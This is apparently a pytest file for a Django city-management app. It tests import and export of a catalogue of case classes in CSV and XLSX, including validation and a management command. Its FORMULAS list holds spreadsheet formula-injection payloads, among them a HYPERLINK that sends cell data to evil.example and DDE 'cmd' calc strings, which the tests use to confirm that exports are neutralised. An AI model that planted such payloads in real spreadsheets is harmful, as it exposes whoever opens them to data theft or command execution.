"""The class catalogue: the default, CSV/XLSX import and export, and the management command."""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest
from django.core.management import CommandError, call_command
from django.utils import translation

from onegrid.cases.catalogue import (
    COLUMNS,
    DEFAULT_CATALOGUE_PATH,
    export_catalogue,
    import_catalogue,
    load_default_catalogue,
)
from onegrid.cases.models import CaseClass, MajorClass
from onegrid.core.errors import InvalidInput
from onegrid.org.departments import DEFAULT_DEPARTMENTS, ensure_default_departments
from onegrid.org.models import Department
from onegrid.territory.models import AdminUnit
from support.spreadsheets import first_sheet, quote_prefixed, runs_anything


def csv_bytes(rows: list[list], header=COLUMNS, encoding="utf-8") -> bytes:
    out = io.StringIO(newline="")
    writer = csv.writer(out)
    writer.writerow(header)
    writer.writerows(rows)
    return out.getvalue().encode(encoding)


def row(code="X0101", **changes) -> list[str]:
    values = {
        "major_code": "X",
        "major_name": "本地扩展",
        "major_name_en": "Local extensions",
        "code": code,
        "name": "测试类",
        "name_en": "Test class",
        "time_limit": "4",
        "time_unit": "hours",
        "urgency": "blue",
        "default_department": "city_management",
        "route_to_street_police": "false",
        "minor_self_closable": "false",
        "filing_criteria": "",
        "closing_criteria": "",
        "active": "true",
        "legal_basis_law": "",
        "legal_basis_article": "",
    }
    values.update(changes)
    return [values[c] for c in COLUMNS]


def xlsx_rows(data: bytes) -> list[tuple]:
    workbook = openpyxl.load_workbook(io.BytesIO(data), read_only=True)
    try:
        return list(workbook.worksheets[0].iter_rows(values_only=True))
    finally:
        workbook.close()


@pytest.fixture(autouse=True)
def _english():
    # Messages are checked by their English msgids; the site's default language is zh-hans.
    with translation.override("en"):
        yield


@pytest.fixture
def catalogue(db):
    return load_default_catalogue()


# --- departments ------------------------------------------------------------------------------


def test_default_departments_and_police_stations(db):
    district = AdminUnit.objects.create(code="120113000000", name="北辰区", level="district")
    streets = [
        AdminUnit.objects.create(
            code="120113001000", name="果园新村街道", level="street", parent=district
        ),
        AdminUnit.objects.create(
            code="120113100000", name="天穆镇", level="street", parent=district
        ),
    ]
    first = ensure_default_departments(streets)
    again = ensure_default_departments(streets)
    assert [d.pk for d in first] == [d.pk for d in again]
    assert Department.objects.count() == len(DEFAULT_DEPARTMENTS) + 2
    codes = {d.code for d in first}
    assert {
        "city_management",
        "ecology",
        "market",
        "housing",
        "water",
        "transport",
        "civil_affairs",
        "fire",
        "health",
        "emergency",
    } <= codes
    station = Department.objects.get(code="police_120113001000")
    assert station.name == "果园新村街道派出所"
    assert station.street == streets[0]
    assert Department.objects.get(code="police_120113100000").name == "天穆镇派出所"


def test_existing_department_names_are_kept(db):
    Department.objects.create(code="ecology", name="北辰区生态环境局")
    ensure_default_departments()
    assert Department.objects.get(code="ecology").name == "北辰区生态环境局"


# --- the default catalogue --------------------------------------------------------------------


def test_default_catalogue_loads_complete(catalogue):
    classes = list(CaseClass.objects.select_related("major", "default_department"))
    assert 40 <= len(classes) <= 60
    assert catalogue.created == len(classes)
    assert set(MajorClass.objects.values_list("code", flat=True)) == set("ABCDEFGHI")
    for c in classes:
        assert c.time_limit > 0, c.code
        assert c.time_unit in {"hours", "days"}, c.code
        assert c.urgency in {"red", "yellow", "blue"}, c.code
        assert c.name and c.name_en and c.filing_criteria and c.closing_criteria, c.code
        assert c.default_department is not None or c.route_to_street_police, c.code
        assert c.active
    assert all(c.route_to_street_police for c in classes if c.major.code == "E")
    by_code = {c.code: c for c in classes}
    assert (by_code["A0102"].name, by_code["A0102"].time_limit, by_code["A0102"].time_unit) == (
        "暴露垃圾",
        4,
        "hours",
    )
    assert (by_code["A0101"].name, by_code["A0101"].time_limit, by_code["A0101"].time_unit) == (
        "私搭乱建",
        15,
        "days",
    )
    manhole = by_code["AC0101"]
    assert (manhole.time_limit, manhole.time_unit, manhole.urgency) == (2, "hours", "red")
    assert by_code["A0201"].minor_self_closable  # loose flyers
    assert by_code["A0104"].minor_self_closable  # scattered litter
    assert not by_code["A0101"].minor_self_closable


def test_default_catalogue_is_idempotent_and_keeps_edits(catalogue):
    total = CaseClass.objects.count()
    CaseClass.objects.filter(code="A0102").update(time_limit=8)
    again = load_default_catalogue()
    assert (again.created, again.updated, again.unchanged) == (0, 0, total)
    assert CaseClass.objects.count() == total
    assert CaseClass.objects.get(code="A0102").time_limit == 8
    reset = load_default_catalogue(update_existing=True)
    assert (reset.created, reset.updated) == (0, 1)
    assert CaseClass.objects.get(code="A0102").time_limit == 4


def test_default_file_is_what_export_writes(catalogue):
    exported = export_catalogue("csv").decode("utf-8-sig")
    shipped = DEFAULT_CATALOGUE_PATH.read_text(encoding="utf-8-sig")
    assert list(csv.reader(io.StringIO(exported))) == list(csv.reader(io.StringIO(shipped)))


# --- round trips ------------------------------------------------------------------------------


@pytest.fixture
def awkward_class(catalogue):
    # Values that trip up spreadsheets: a leading "=", commas, quotes, a line break, CJK.
    return CaseClass.objects.create(
        code="X0001",
        major=MajorClass.objects.create(code="X", name="本地扩展"),
        name="=SUM(A1:A2)",
        name_en='Quote " and, comma',
        time_limit=3,
        time_unit="days",
        filing_criteria="第一行\n第二行，含逗号,",
        closing_criteria="",
        urgency="yellow",
        default_department=None,
        route_to_street_police=False,
        minor_self_closable=True,
        active=False,
    )


def test_csv_round_trip_is_exact(awkward_class):
    exported = export_catalogue("csv")
    assert exported.startswith(b"\xef\xbb\xbf")  # the BOM Excel needs to read UTF-8
    CaseClass.objects.all().delete()
    MajorClass.objects.all().delete()
    report = import_catalogue(io.BytesIO(exported), "csv")
    assert report.created == report.rows
    assert export_catalogue("csv") == exported
    again = import_catalogue(io.BytesIO(exported), "csv")
    assert (again.created, again.updated) == (0, 0)


def test_xlsx_round_trip_is_exact(awkward_class):
    as_csv = export_catalogue("csv")
    as_xlsx = export_catalogue("xlsx")
    sheet = xlsx_rows(as_xlsx)
    assert sheet[0] == COLUMNS
    assert "=SUM(A1:A2)" in {r[4] for r in sheet}  # text, not a formula
    CaseClass.objects.all().delete()
    MajorClass.objects.all().delete()
    import_catalogue(io.BytesIO(as_xlsx), "xlsx")
    assert export_catalogue("csv") == as_csv
    assert xlsx_rows(export_catalogue("xlsx")) == sheet


# Each would run, or call out, in Excel or WPS if an export held it as typed.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点此")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "'=1+1",  # starts with an apostrophe of its own
    "#N/A",
]


@pytest.fixture
def formula_classes(catalogue):
    major = MajorClass.objects.create(code="X", name="@本地扩展")
    for i, text in enumerate(FORMULAS):
        CaseClass.objects.create(
            code=f"X{i:04d}",
            major=major,
            name=text,
            name_en=text,
            filing_criteria=text,
            closing_criteria=text,
            time_limit=4,
            time_unit="hours",
        )
    return major


def _stored_texts() -> list[tuple]:
    return list(
        CaseClass.objects.filter(code__startswith="X")
        .order_by("code")
        .values_list("major__name", "name", "name_en", "filing_criteria", "closing_criteria")
    )


def test_exports_hold_no_formula_and_read_back_the_same(formula_classes):
    before = _stored_texts()
    as_csv = export_catalogue("csv")
    fields = [f for r in csv.reader(io.StringIO(as_csv.decode("utf-8-sig"))) for f in r]
    assert not [f for f in fields if f[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert "'+cmd|' /C calc'!A0" in fields and "''=1+1" in fields and "#N/A" in fields
    as_xlsx = export_catalogue("xlsx")
    assert not runs_anything(first_sheet(as_xlsx)[0])
    formula_rows = [n for n, r in enumerate(xlsx_rows(as_xlsx), start=1) if r[4] in FORMULAS]
    assert len(formula_rows) == len(FORMULAS)
    # The names that start like a formula ("#N/A" does not) carry the quote prefix.
    assert quote_prefixed(as_xlsx, "E") == {f"E{n}" for n in formula_rows[:5]}
    for data, fmt in ((as_csv, "csv"), (as_xlsx, "xlsx")):
        CaseClass.objects.all().delete()
        MajorClass.objects.all().delete()
        import_catalogue(io.BytesIO(data), fmt)
        assert _stored_texts() == before, fmt
        assert export_catalogue("csv") == as_csv and xlsx_rows(export_catalogue("xlsx")) == (
            xlsx_rows(as_xlsx)
        )


def test_import_updates_by_code(catalogue):
    exported = export_catalogue("csv").decode("utf-8-sig")
    edited = exported.replace(
        "A0102,暴露垃圾,Exposed rubbish,4,hours", "A0102,暴露垃圾,Exposed rubbish,1,days"
    )
    assert edited != exported
    report = import_catalogue(io.StringIO(edited), "csv")
    assert (report.created, report.updated, report.updated_codes) == (0, 1, ["A0102"])
    cls = CaseClass.objects.get(code="A0102")
    assert (cls.time_limit, cls.time_unit) == (1, "days")


def test_dry_run_saves_nothing(catalogue):
    before = export_catalogue("csv")
    data = csv_bytes(
        [
            row("X0101"),
            row(
                "A0102",
                major_code="A",
                major_name="城市管理",
                major_name_en="City management",
                time_limit="9",
            ),
        ]
    )
    report = import_catalogue(data, "csv", dry_run=True)
    assert (report.created, report.updated, report.majors_created) == (1, 1, 1)
    assert report.dry_run
    assert export_catalogue("csv") == before


# --- bad files --------------------------------------------------------------------------------

BAD_ROWS = [
    ({"default_department": "no_such_dept"}, "default_department"),
    ({"time_unit": "weeks"}, "time_unit"),
    ({"time_limit": "0"}, "time_limit"),
    ({"time_limit": "-3"}, "time_limit"),
    ({"time_limit": "2.5"}, "time_limit"),
    ({"time_limit": "abc"}, "time_limit"),
    ({"urgency": "purple"}, "urgency"),
    ({"active": "maybe"}, "active"),
    ({"name": ""}, "name"),
    ({"code": "X0101"}, "code"),  # duplicates row 2
    ({"major_name": "另一个名称"}, "major_name"),  # same major code, other name
]


@pytest.mark.parametrize(
    ("fmt", "changes_column"),
    [(fmt, case) for fmt in ("csv", "xlsx") for case in BAD_ROWS],
    ids=lambda v: v if isinstance(v, str) else v[1],
)
def test_bad_row_is_rejected_naming_row_and_column(catalogue, fmt, changes_column):
    changes, column = changes_column
    before = export_catalogue("csv")
    rows = [row("X0101"), row(**{"code": "X0102", **changes}), row("X0103")]
    if fmt == "csv":
        data = csv_bytes(rows)
    else:
        workbook = openpyxl.Workbook()
        sheet = workbook.active
        sheet.append(COLUMNS)
        for values in rows:
            sheet.append(values)
        out = io.BytesIO()
        workbook.save(out)
        data = out.getvalue()
    with pytest.raises(InvalidInput) as err:
        import_catalogue(data, fmt)
    message = str(err.value.message)
    assert message.startswith(f"Row 3, column {column}:"), message
    assert err.value.field == column
    assert err.value.row == 3
    # All or nothing: the good rows around the bad one were not saved either.
    assert export_catalogue("csv") == before
    assert not CaseClass.objects.filter(code__startswith="X").exists()
    assert not MajorClass.objects.filter(code="X").exists()


def test_missing_required_column(catalogue):
    header = [c for c in COLUMNS if c != "time_unit"]
    data = csv_bytes(
        [[v for c, v in zip(COLUMNS, row(), strict=True) if c != "time_unit"]], header=header
    )
    with pytest.raises(InvalidInput) as err:
        import_catalogue(data, "csv")
    assert err.value.field == "time_unit"
    assert "Row 1" in str(err.value.message) and "time_unit" in str(err.value.message)
    assert not CaseClass.objects.filter(code="X0101").exists()


def test_every_problem_is_listed(catalogue):
    data = csv_bytes(
        [
            row("X0101", time_unit="weeks", urgency="pink"),
            row("X0102"),
            row("X0103", default_department="nowhere"),
        ]
    )
    with pytest.raises(InvalidInput) as err:
        import_catalogue(data, "csv")
    lines = str(err.value.message).splitlines()
    assert lines == [
        'Row 2, column time_unit: the time unit must be "hours" or "days", not "weeks"',
        'Row 2, column urgency: the urgency must be "red", "yellow" or "blue", not "pink"',
        'Row 4, column default_department: unknown department code "nowhere"',
    ]
    assert err.value.problems[2] == (4, "default_department", 'unknown department code "nowhere"')


@pytest.mark.parametrize(
    ("data", "fmt"),
    [
        (b"not a workbook", "xlsx"),
        (b"", "csv"),
        (csv_bytes([]), "csv"),
        (csv_bytes([row()]), "json"),
    ],
)
def test_unreadable_files(catalogue, data, fmt):
    with pytest.raises(InvalidInput):
        import_catalogue(data, fmt)


def test_export_rejects_unknown_format(db):
    with pytest.raises(InvalidInput):
        export_catalogue("pdf")


# --- other catalogues -------------------------------------------------------------------------

HOTLINE = [
    # A 12345 catalogue: other top classes, only some columns, Chinese spellings, extra column.
    ("CX", "城乡建设", "CX01", "物业管理", "15", "工作日", "housing", "一般", "市民来电"),
    ("CX", "城乡建设", "CX02", "违法建设", "15", "工作日", "city_management", "一般", ""),
    ("HB", "环境保护", "HB01", "噪声污染", "5", "工作日", "ecology", "", ""),
    ("JT", "交通运输", "JT01", "公交运营", "24", "小时", "transport", "优先", ""),
    ("JY", "教育文体", "JY01", "校外培训", "10", "days", "", "", ""),
    ("LD", "劳动和社会保障", "LD01", "拖欠工资", "5", "days", "hrss", "yellow", ""),
    ("SM", "商贸旅游", "SM01", "预付卡退费", "7", "days", "market", "", ""),
    ("WS", "卫生计生", "WS01", "医疗服务", "7", "days", "health", "", ""),
    ("NC", "农村农业", "NC01", "农村道路", "10", "days", "transport", "", ""),
    ("ZF", "政法", "ZF01", "治安问题", "1", "days", "", "red", ""),
    ("MZ", "民政", "MZ01", "低保救助", "10", "days", "civil_affairs", "", ""),
]


def test_hotline_catalogue_imports(catalogue):
    header = [
        "major_code",
        "major_name",
        "code",
        "name",
        "time_limit",
        "time_unit",
        "default_department",
        "urgency",
        "备注",
    ]
    # Excel on Chinese Windows writes CSV in GBK, without a byte-order mark.
    data = csv_bytes([list(r) for r in HOTLINE], header=header, encoding="gbk")
    report = import_catalogue(io.BytesIO(data), "csv")
    assert (report.created, report.majors_created) == (len(HOTLINE), 10)
    jt = CaseClass.objects.get(code="JT01")
    assert (jt.name, jt.time_limit, jt.time_unit, jt.urgency) == ("公交运营", 24, "hours", "yellow")
    assert jt.major.name == "交通运输"
    hb = CaseClass.objects.get(code="HB01")
    assert (hb.urgency, hb.active, hb.minor_self_closable, hb.route_to_street_police) == (
        "blue",
        True,
        False,
        False,
    )
    assert CaseClass.objects.get(code="JY01").default_department is None
    assert CaseClass.objects.get(code="CX01").default_department.code == "housing"
    # The default catalogue is untouched.
    assert CaseClass.objects.filter(major__code="A").count() == 21


# --- the management command -------------------------------------------------------------------


def test_command(db, tmp_path):
    out = io.StringIO()
    call_command("catalogue", "load-default", stdout=out)
    assert "created" in out.getvalue()
    total = CaseClass.objects.count()

    path = tmp_path / "catalogue.xlsx"
    call_command("catalogue", "export", str(path), stdout=io.StringIO())
    assert xlsx_rows(path.read_bytes())[0] == COLUMNS

    bad = tmp_path / "bad.csv"
    bad.write_bytes(csv_bytes([row("X0101", time_unit="fortnights")]))
    with pytest.raises(CommandError, match="Row 2, column time_unit"):
        call_command("catalogue", "import", str(bad))

    good = tmp_path / "good.csv"
    good.write_bytes(csv_bytes([row("X0101")]))
    out = io.StringIO()
    call_command("catalogue", "import", str(good), "--dry-run", stdout=out)
    assert "Dry run" in out.getvalue()
    assert CaseClass.objects.count() == total
    call_command("catalogue", "import", str(good), stdout=io.StringIO())
    assert CaseClass.objects.count() == total + 1
    call_command("catalogue", "import", str(path), stdout=io.StringIO())
    assert CaseClass.objects.count() == total + 1
